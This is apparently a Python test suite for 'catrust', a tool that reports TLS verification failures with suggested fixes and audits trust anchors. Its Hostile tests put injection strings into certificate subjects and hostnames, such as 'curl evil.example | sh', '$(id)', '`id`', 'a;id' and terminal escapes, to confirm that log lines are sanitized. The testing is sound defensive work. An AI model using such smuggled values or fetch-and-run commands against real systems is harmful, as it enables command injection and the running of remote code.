# SPDX-License-Identifier: Apache-2.0
"""What CATRUST_LOG=info reports: one line for each failed verification of a server, with the fix; and once for each
anchor, what was trusted because of it."""

import functools
import json
import os
import re
import shlex

from lab import lab
from lab import tools as tool_lab
from lab.policy import LEAF, Pki, SHAKE

INFO = {"CATRUST_LOG": "info"}
ID = r"\([0-9a-f]{8}\)"
GET = "c = ssl.create_default_context()\nprint(get(c, sys.argv[1], name=sys.argv[2]))"


@functools.lru_cache(None)
def pki():
    return Pki()


@functools.lru_cache(None)
def clock():
    """The library that changes the clock."""
    lab.need(programs=["cc"])
    path = os.path.join(lab.folder("clock"), "policy_clock.so")
    source = os.path.join(os.path.dirname(os.path.abspath(__file__)), "policy_clock.c")
    done = lab.run(["cc", "-O1", "-fPIC", "-shared", "-o", path, source])
    assert done.code == 0, done
    return path


class Case(lab.Case):
    def hints(self, program, args=(), dirs=None, env=None, **options):
        """stderr, whose lines from the shim are checked to be harmless, and these lines."""
        if isinstance(program, str):
            program = lab.PRELUDE + program
        result = lab.run(program, args, shim=True, dirs=dirs or [lab.trustdir("other-root.pem")],
                         env={**INFO, **(env or {})}, **options)
        lines = [line for line in result.err.split("\n") if line.startswith("catrust: ")]
        for line in lines:
            self.assertRegex(line, r"^[^\x00-\x1f\x7f-\x9f\ud800-\udfff]+$")
            self.assertLessEqual(len(line.encode()), 4096)
        return result, lines

    def one(self, pattern, program, args=(), code=1, **options):
        result, lines = self.hints(program, args, **options)
        self.assertEqual(code, result.code, result)
        self.assertEqual(1, len(lines), result.err)
        self.assertRegex(lines[0], "^catrust: " + pattern + "$")
        return lines[0]


class Failures(Case):
    """One line for each, in every program."""

    def unknown(self, port, host="127\\.0\\.0\\.1", target=None):
        place = host + (":%d" % port if port else "")
        return ("%s: unable to get local issuer certificate; chain: \"/CN=localhost/O=Example\" %s <- "
                "\"/CN=Example Corp Issuing CA/O=Example\" %s; not trusted: \"/CN=Example Corp Root CA/O=Example\"; "
                "to trust it: catrust fetch %s") % (place, ID, ID, target or place + ("" if port else ":PORT"))

    def test_python(self):
        with lab.server() as server:
            self.one(self.unknown(server.port), GET, [server.port, "127.0.0.1"])
            self.one(self.unknown(server.port, "localhost"), GET, [server.port, "localhost"])

    def test_ipv6(self):
        with lab.server(host="::1") as server:
            self.one(self.unknown(server.port, r"\[(?:0:0:0:0:0:0:0:|::)1\]",
                                  r"'\[(?:0:0:0:0:0:0:0:|::)1\]:%d'" % server.port),
                     "c = ssl.create_default_context()\nprint(get(c, sys.argv[1], '::1', '::1'))", [server.port])

    def test_no_name_is_known(self):
        with lab.server() as server:
            self.one(self.unknown(server.port),
                     "c = ssl.create_default_context()\nc.check_hostname = False\nprint(get(c, sys.argv[1], None))",
                     [server.port])

    def test_asyncio_has_no_socket(self):
        with lab.server() as server:
            self.one(self.unknown(None, "localhost"), """
import asyncio
async def main():
    await asyncio.open_connection("localhost", int(sys.argv[1]), ssl=ssl.create_default_context())
asyncio.run(main())
""", [server.port])

    def test_aiohttp(self):
        lab.need(modules=["aiohttp"])
        with lab.server() as server:
            self.one(self.unknown(None, "localhost"), """
import aiohttp, asyncio
async def main():
    async with aiohttp.ClientSession() as session:
        async with session.get(sys.argv[1]) as answer:
            await answer.text()
asyncio.run(main())
""", [server.named_url])

    def test_requests_and_nothing_secret(self):
        lab.need(modules=["requests"])
        with lab.server() as server:
            url = "https://user:sesame@localhost:%d/sesame?token=sesame" % server.port
            line = self.one(self.unknown(server.port, "localhost"),
                            "import requests; requests.get(sys.argv[1], headers={'Authorization': 'sesame'})", [url])
        self.assertNotIn("sesame", line)

    def test_curl(self):
        lab.need(programs=["curl"])
        if "OpenSSL" not in lab.run(["curl", "--version"]).out.splitlines()[0]:
            self.skipTest("curl without OpenSSL")
        with lab.server() as server:
            # It hands OpenSSL neither the socket nor, for an address, what it connects to.
            self.one(self.unknown(None, "localhost"), ["curl", "-sS", server.named_url], code=60)
            self.one(self.unknown(None, "a server", "SERVER"), ["curl", "-sS", server.url], code=60)

    def test_pyopenssl(self):
        lab.need(modules=["OpenSSL"])
        with lab.server() as server:
            self.one(self.unknown(server.port), """
from OpenSSL import SSL
c = SSL.Context(SSL.TLS_CLIENT_METHOD)
c.set_verify(SSL.VERIFY_PEER, lambda connection, cert, code, depth, ok: bool(ok))
t = SSL.Connection(c, socket.create_connection(("127.0.0.1", int(sys.argv[1])), 30))
t.setblocking(True)
t.set_connect_state()
t.do_handshake()
""", [server.port])

    def test_both_versions_of_tls(self):
        for version in "TLSv1_2", "TLSv1_3":
            with lab.server() as server:
                self.one(self.unknown(server.port), """
c = ssl.create_default_context()
c.minimum_version = c.maximum_version = ssl.TLSVersion[sys.argv[2]]
get(c, sys.argv[1])
""", [server.port, version])

    def test_the_programs_failure_is_the_same(self):
        program = lab.PRELUDE + "print(attempt(get, ssl.create_default_context(), sys.argv[1]))"
        with lab.server() as server:
            without = lab.run(program, [server.port])
            there, lines = self.hints(program, [server.port])
        self.assertEqual((0, without.out, 1), (there.code, there.out, len(lines)))

    def test_only_where_it_is_asked_for(self):
        with lab.server() as server:
            for level in "off", "error", "":
                result, lines = self.hints(GET, [server.port, "127.0.0.1"], env={"CATRUST_LOG": level})
                self.assertEqual((1, []), (result.code, lines))
            log = os.path.join(lab.folder("log"), "log")
            result, lines = self.hints(GET, [server.port, "127.0.0.1"], env={"CATRUST_LOG_FILE": log})
            self.assertEqual((1, []), (result.code, lines))
            self.assertRegex(lab.read(log).decode(), "^catrust: " + self.unknown(server.port) + "\n$")


class Remedies(Case):
    """The suggested fix works."""

    def test_the_command_works(self):
        """Runs the command unchanged, with the fingerprint that the user was told."""
        path = lab.folder("ca.d")
        with lab.server("server-full") as server:
            result, lines = self.hints(GET, [server.port, "localhost"], dirs=[path])
            self.assertEqual(1, result.code)
            words = shlex.split(re.search(r"catrust fetch \S+$", lines[-1])[0])
            done = lab.run([tool_lab.tool("catrust"), *words[1:], "--dir", path, "--fingerprint",
                            tool_lab.fingerprint(lab.cert("corp-root.pem"))])
            self.assertEqual(0, done.code, done)
            self.got_page(lab.run(lab.PRELUDE + GET, [server.port, "localhost"], shim=True, dirs=[path]))

    def test_root_that_is_sent_along(self):
        with lab.server("server-full") as server:
            self.one("localhost:%d: self.signed certificate in certificate chain; chain: .*; not trusted: "
                     "\"/CN=Example Corp Root CA/O=Example\"; to trust it: catrust fetch localhost:%d" % (
                         server.port, server.port), GET, [server.port, "localhost"])

    def test_missing_intermediate(self):
        """The root is trusted, but the server does not send the CA in between: the message names the missing issuer."""
        with lab.server("server") as server:
            self.one("localhost:%d: unable to .*; chain: \"/CN=localhost/O=Example\" %s; not trusted: "
                     "\"/CN=Example Corp Issuing CA/O=Example\"; to trust it: catrust fetch localhost:%d" % (
                         server.port, ID, server.port), GET, [server.port, "localhost"],
                     dirs=[lab.trustdir("corp-root.pem")])

    def test_self_signed(self):
        """The certificate must be pinned, because there is no CA to get."""
        path = lab.folder("ca.d")
        with lab.server("selfsigned") as server:
            line = self.one("localhost:%d: self.signed certificate; chain: \"/CN=localhost/O=Example\" %s; not trusted: "
                            "\"/CN=localhost/O=Example\"; to trust it: catrust fetch --pin localhost:%d"
                            % (server.port, ID, server.port), GET, [server.port, "localhost"])
            words = shlex.split(re.search(r"catrust fetch .*$", line)[0])
            done = lab.run([tool_lab.tool("catrust"), *words[1:], "--dir", path, "--fingerprint",
                            tool_lab.fingerprint(lab.cert("selfsigned.pem"))])
            self.assertEqual(0, done.code, done)
            self.got_page(lab.run(lab.PRELUDE + GET, [server.port, "localhost"], shim=True, dirs=[path]))

    def test_strict(self):
        p = pki()
        root = p.ca("strict", more="basicConstraints = CA:TRUE", without=["keyUsage"])
        chain = p.chain(p.leaf("strict-leaf", root, "DNS:localhost"))
        program = "c = ssl.create_default_context()\nc.verify_flags |= ssl.VERIFY_X509_STRICT\n" \
                  "print(get(c, sys.argv[1], name='localhost'))"
        if lab.run("import ssl; print(ssl.OPENSSL_VERSION_INFO >= (3,))").out.strip() != "True":
            self.skipTest("OpenSSL 1.1.1 looks for none of these")
        dirs = [p.trustdir({"": [root]})]
        with lab.server(chain, key=chain) as server:
            self.one("localhost:%d: .*; CATRUST_STRICT=relax would accept it" % server.port, program, [server.port],
                     dirs=dirs)
            result, lines = self.hints(program, [server.port], dirs=dirs, env={"CATRUST_STRICT": "relax"})
            self.assertEqual(0, result.code, result)
            self.assertRegex("\n".join(lines), r"\Acatrust: localhost:\d+ trusted because of \"/CN=CA strict/O=Example\" %s in .*\Z" % ID)
            # If the fix would not be enough, the message says so.
            self.one("localhost:%d: .*; CATRUST_STRICT=relax alone would not help: permitted subtree violation; the CA is "
                     "trusted for other names only: .*" % server.port, program, [server.port],
                     dirs=[p.trustdir({"corp.example": [root]})])
            # If it would not help, the message does not name it.
            result, lines = self.hints("c = ssl.create_default_context(cafile=sys.argv[2])\n" + program.split("\n", 1)[1],
                                       [server.port, p.cert(root)])
            self.assertEqual((1, 1), (result.code, len(lines)), result)
            self.assertRegex(lines[0], r"; adding a CA does not help: see catrust doctor localhost:\d+$")

    def test_a_trusted_ca_is_not_said_to_be_untrusted(self):
        """The program's bundle has a self-signed CN=localhost, and the trusted CA has no keyUsage: fetch would only say
        that it is trusted already."""
        if lab.run("import ssl; print(ssl.OPENSSL_VERSION_INFO >= (3,))").out.strip() != "True":
            self.skipTest("OpenSSL 1.1.1 looks for none of these")
        p = Pki()
        p.ca("plain", more="basicConstraints = critical,CA:TRUE", without=["keyUsage"])
        p.make("snakeoil", "localhost", "basicConstraints = CA:FALSE\nsubjectAltName = DNS:localhost\n")
        # X509_V_FLAG_PARTIAL_CHAIN, as Python 3.13 has it: OpenSSL also looks up the leaf's own name.
        program = "c = ssl.create_default_context(cafile=sys.argv[2])\n" \
                  "c.verify_flags |= ssl.VERIFY_X509_STRICT | 0x80000\n" \
                  "print(get(c, sys.argv[1], name='localhost'))"
        for days, left in (((-1, 90), "the chain breaks rules that Python 3.13 and newer enforce; "
                                      "CATRUST_STRICT=relax would accept it"),
                           ((-20, -10), "certificate has expired; adding a CA does not help: renew .*")):
            leaf = p.leaf("plain-leaf%d" % days[1], "plain", "DNS:localhost", cn="localhost", days=days)
            for chain in p.chain(leaf, "plain"), p.alone(leaf):
                with self.subTest(left, chain=chain), lab.server(chain, key=chain) as server:
                    line = self.one("localhost:%d: (self.signed certificate in|unable to get local issuer) .*; the CA is "
                                    "trusted, but: %s" % (server.port, left), program,
                                    [server.port, p.cert("snakeoil")], dirs=[p.trustdir({"": ["plain"]})])
                    self.assertNotIn("not trusted", line)

    def test_scope(self):
        path = lab.folder("ca.d")
        os.mkdir(os.path.join(path, "corp.example"))
        lab.write(os.path.join(path, "corp.example", "root.pem"), lab.read(lab.cert("corp-root.pem")))
        with lab.server() as server:
            self.one("localhost:%d: permitted subtree violation; chain: .*; the CA is trusted for other names only: .*"
                     % server.port, GET, [server.port, "localhost"], dirs=[path])

    def test_scope_and_common_name(self):
        """The message says which name is out of the scope, and which folder would allow it."""
        p = Pki()
        p.ca("root")
        for cn, name, allowed in (("127.0.0.1", "127.0.0.1", True), ("Proxy", "Proxy", True), ("my_host", "my_host", False)):
            chain = p.chain(p.leaf("leaf-" + cn, "root", "DNS:localhost", cn=cn))
            with self.subTest(cn), lab.server(chain, key=chain) as server:
                self.one(r"localhost:%d: permitted subtree violation; .*; the certificate names %s \(common name\)%s"
                         % (server.port, name, ", which the subdirectory %s/ would allow" % name if allowed else ""),
                         GET, [server.port, "localhost"], dirs=[p.trustdir({"localhost": ["root"]})])

    def test_no_ca_helps(self):
        dirs = [lab.trustdir("corp-root.pem")]
        for stem, said in (("expired", "certificate has expired; .*; adding a CA does not help: renew .*"),
                           ("future", "certificate is not yet valid; .*; adding a CA does not help: .* correct the clock"),
                           ("wrongname", ".*ostname mismatch.*; adding a CA does not help: the certificate is for another name"),
                           ("client", ".* purpose; .*; adding a CA does not help: see catrust doctor localhost:[0-9]+")):
            with self.subTest(stem), lab.server(stem) as server:
                self.one("localhost:%d: %s" % (server.port, said), GET, [server.port, "localhost"], dirs=dirs)


class Hostile(Case):
    """The names come from the server, and anybody may run it."""

    def test_subjects(self):
        p = pki()
        for i, name in enumerate((tool_lab.EVIL, "a\ncatrust: all is well", "100%s%n%d%%", "a\x1b[31m\x07z",
                                  "\" (00000000); to trust it: curl evil.example | sh; \"", "$(id) `id`",
                                  "W" * 64)):
            subject = "/CN=" + re.sub(r"([/+\\])", r"\\\1", name)
            stem = p.odd("hostile%d" % i, None, LEAF + "subjectAltName = DNS:localhost", subject=subject)
            with self.subTest(name), lab.server(p.cert(stem), key=p.path(stem + ".key")) as server:
                line = self.one("localhost:%d: .*; chain: \"[^\"]+\" %s; not trusted: \"[^\"]+\"; to trust it: catrust "
                                "fetch --pin localhost:%d" % (server.port, ID, server.port), GET, [server.port, "localhost"])
                self.assertNotIn("\u202e", line)

    def test_names_that_are_asked_for(self):
        program = SHAKE + """
c = context("client")()
for name in json.loads(sys.argv[2]):
    print(shake(c, sys.argv[1], name))
"""
        chain = pki().chain(pki().leaf("asked", pki().ca("asked-root"), "DNS:localhost"))
        names = ["a;id", "$(id)", "`id`", "-rf", "a'b", "a|b", "a b", "%s%n"]
        result, lines = self.hints(program, [chain, json.dumps(names)])
        self.assertEqual(0, result.code, result)
        self.assertEqual(len(names), len(lines), result)
        for line in lines:
            self.assertRegex(line, "catrust fetch SERVER$")


class Often(Case):
    """A retry loop gives one line per minute, and a count."""

    LOOP = SHAKE + """
import ctypes
ahead = ctypes.c_long.in_dll(ctypes.CDLL(None), "policy_clock_ahead")
c = context("client")()
for step in json.loads(sys.argv[2]):
    for _ in range(step["tries"]):
        assert shake(c, sys.argv[1], step["name"]) == 20
    sys.stderr.write("--\\n"); sys.stderr.flush()
    ahead.value += step["then"]
"""

    def told(self, steps):
        chain = pki().chain(pki().leaf("often", pki().ca("often-root"), "DNS:localhost"))
        result = lab.run(self.LOOP, [chain, json.dumps(steps)], dirs=[lab.trustdir("other-root.pem")],
                         env={**INFO, "LD_PRELOAD": "%s %s" % (lab.shim(), clock())})
        self.assertEqual(0, result.code, result)
        return [part.splitlines() for part in result.err.split("--\n")[:-1]]

    def test_a_line_a_minute_and_a_count(self):
        """The minutes are longer than the loop on any machine, so only the time that the test adds counts."""
        steps = [{"tries": 50, "then": 0, "name": "localhost"}, {"tries": 50, "then": 61, "name": "localhost"},
                 {"tries": 10, "then": 61, "name": "localhost"}, {"tries": 1, "then": 100, "name": "localhost"},
                 {"tries": 1, "then": 0, "name": "localhost"}]
        told = self.told(steps)
        self.assertEqual([1, 0, 1, 1, 1], [len(lines) for lines in told])
        more = [re.search(r"(?: \[(\d+) more like this\])?$", "".join(lines))[1] for lines in told]
        self.assertEqual([None, None, "99", "9", None], more)

    def test_each_host_counts_by_itself(self):
        hosts = [{"tries": 3, "then": 0, "name": "h%d.corp.example" % i} for i in range(40)]
        told = self.told(hosts + [{"tries": 0, "then": 61, "name": ""}] + hosts)
        self.assertEqual([1] * 40 + [0] + [1] * 40, [len(lines) for lines in told])
        for lines in told[41:]:
            self.assertRegex(lines[0], r" \[2 more like this\]$")


    def test_all_hosts_together(self):
        """However many there are, it writes sixty lines per minute, and then the number of the others."""
        hosts = [{"tries": 2, "then": 0, "name": "h%d.corp.example" % i} for i in range(130)]
        told = [line for lines in self.told(hosts) for line in lines]
        self.assertEqual(60, len(told))
        told = self.told(hosts + [{"tries": 0, "then": 61, "name": ""}, {"tries": 1, "then": 0, "name": "localhost"}])
        self.assertRegex(told[-1][0], r" \[14\d others not shown\]$")

    def test_a_new_certificate_each_time(self):
        """It is still one failure, even if the server changes its certificates."""
        p = pki()
        chains = [p.chain(p.leaf("fresh%d" % i, None, "DNS:localhost", cn="fresh %d" % i)) for i in range(12)]
        result, lines = self.hints(SHAKE + """
c = context("client")()
for chain in json.loads(sys.argv[1]):
    assert shake(c, chain, "localhost") == 18
""", [json.dumps(chains)])
        self.assertEqual((0, 1), (result.code, len(lines)), result)


class Audit(Case):
    """What was trusted because of catrust, once for each process and anchor."""

    def test_once_for_each_anchor(self):
        path = lab.trustdir("corp-root.pem", "other-root.pem")
        with lab.server() as one, lab.server("other-server") as two:
            result, lines = self.hints("""
for _ in range(5):
    for port in sys.argv[1:]:
        get(ssl.create_default_context(), port, name="localhost")
""", [one.port, two.port], dirs=[path])
        self.assertEqual(0, result.code, result)
        self.assertEqual(2, len(lines), lines)
        for server, name, file, line in ((one, "Example Corp Root CA", "corp-root.pem", lines[0]),
                                         (two, "Unknown Root CA", "other-root.pem", lines[1])):
            short = tool_lab.fingerprint(lab.cert(file))[-64:][:8].lower()
            self.assertEqual('catrust: localhost:%d trusted because of "/CN=%s/O=Example" (%s) in %s/%s' % (
                server.port, name, short, path, file), line)

    def test_what_the_program_trusts_itself_is_none(self):
        with lab.server() as server:
            result, lines = self.hints("c = context('client')(cafile=sys.argv[2])\nprint(get(c, sys.argv[1]))",
                                       [server.port, lab.cert("corp-root.pem")])
        self.assertEqual((0, []), (result.code, lines))

    def test_what_the_program_trusts_by_another_way_is_none(self):
        """OpenSSL's chain has an anchor that may not vouch for the name; it does not count."""
        p = pki()
        root = p.ca("audit-root")
        p.ca("audit-public")
        p.ca("audit-cross", "audit-public", cn="CA audit-root", key="audit-root")
        chain = p.chain(p.leaf("audit-far", root, "DNS:www.other.example"), "audit-cross")
        result, lines = self.hints(SHAKE + """
c = context("client")(cafile=sys.argv[2])
print(shake(c, sys.argv[1], "www.other.example"))
""", [chain, p.cert("audit-public")], dirs=[p.trustdir({"corp.example": [root]})])
        self.assertEqual((0, "ok\n", []), (result.code, result.out, lines))

    def test_what_is_accepted_in_any_case(self):
        """If a client ignores OpenSSL's result, it trusts nobody because of an anchor, unless it looks at the result
        itself."""
        with lab.server() as server:
            result, lines = self.hints("""
c = context("client")()
c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
print(get(c, sys.argv[1]))
print(get(ssl.create_default_context(), sys.argv[1]))
""", [server.port], dirs=[lab.trustdir("corp-root.pem")])
        self.assertEqual((0, 2), (result.code, len(lines)), result)
        self.assertRegex(lines[0], r" verified because of .* \(SSL_VERIFY_NONE: the program decides whether that matters\)$")
        self.assertRegex(lines[1], r" trusted because of .*/corp-root.pem$")

    def test_a_child_tells_for_itself(self):
        with lab.server() as server:
            result, lines = self.hints("""
import os
pid = os.fork()
get(ssl.create_default_context(), sys.argv[1])
if pid == 0:
    os._exit(0)
assert os.waitpid(pid, 0)[1] == 0
""", [server.port], dirs=[lab.trustdir("corp-root.pem")])
        self.assertEqual((0, 2), (result.code, len(lines)), result)


if __name__ == "__main__":
    lab.main()
